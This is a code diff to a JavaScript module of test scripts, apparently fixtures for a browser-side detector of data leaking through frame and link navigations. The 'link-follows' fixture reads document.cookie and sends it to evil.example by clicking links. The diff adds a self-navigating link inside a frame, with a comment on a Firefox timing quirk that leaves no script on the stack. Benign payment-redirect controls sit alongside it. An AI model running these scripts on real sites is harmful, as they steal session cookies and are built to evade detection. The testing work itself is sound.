@@ -665,8 +665,8 @@ export const MAIN_WORLD_SCRIPTS = {
   'link-follows': `(() => {
   const c = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c'), frame('saq-meta-d'), frame('saq-meta-e')]).then(([link, inner, a, b, m, p, n]) => {
-    link.onload = inner.onload = a.onload = b.onload = m.onload = p.onload = n.onload = null;
+  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-link-c'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c'), frame('saq-meta-d'), frame('saq-meta-e')]).then(([link, inner, own, a, b, m, p, n]) => {
+    link.onload = inner.onload = own.onload = a.onload = b.onload = m.onload = p.onload = n.onload = null;
     const into = document.createElement('a');
     into.href = 'https://evil.example/link-dispatched?c=' + c;
     into.target = 'saq-link-a';
@@ -678,6 +678,12 @@ export const MAIN_WORLD_SCRIPTS = {
     around.innerHTML = '<span><b>Акция</b></span>';
     document.body.appendChild(around);
     around.querySelector('b').click();
+    // A link with no target, in a frame's own document: that document navigates itself (Firefox 153 fires its
+    // navigate event a task later, with no script on the stack).
+    const self = own.contentDocument.createElement('a');
+    self.href = 'https://evil.example/link-self?c=' + c;
+    own.contentDocument.body.appendChild(self);
+    self.click();
     const blank = document.createElement('a');
     blank.href = 'https://evil.example/link-blank?c=' + c;
     blank.target = '_blank';
@@ -1528,8 +1534,8 @@ export const BENIGN = {
   'pay-navigations': `(() => {
   const ref = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('pay-a'), frame('pay-b'), frame('pay-c'), frame('pay-d')]).then(([a, , c, d]) => {
-    a.onload = c.onload = d.onload = null;
+  Promise.all([frame('pay-a'), frame('pay-b'), frame('pay-c'), frame('pay-d'), frame('pay-e')]).then(([a, , c, d, e]) => {
+    a.onload = c.onload = d.onload = e.onload = null;
     a.contentWindow.location.href = 'https://pay.example/checkout?ref=' + ref;
     const link = document.createElement('a');
     link.href = 'https://pay.example/3ds?ref=' + ref;
@@ -1548,6 +1554,11 @@ export const BENIGN = {
     slip.target = 'pay-b';
     document.body.appendChild(slip);
     slip.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
+    // Its link in a frame's own document, no target: that document goes to the provider.
+    const wallet = e.contentDocument.createElement('a');
+    wallet.href = 'https://pay.example/wallet?ref=' + ref;
+    e.contentDocument.body.appendChild(wallet);
+    wallet.click();
     const status = c.contentDocument.createElement('meta');
     status.httpEquiv = 'refresh';
     status.content = '0; url=https://pay.example/status?ref=' + ref;
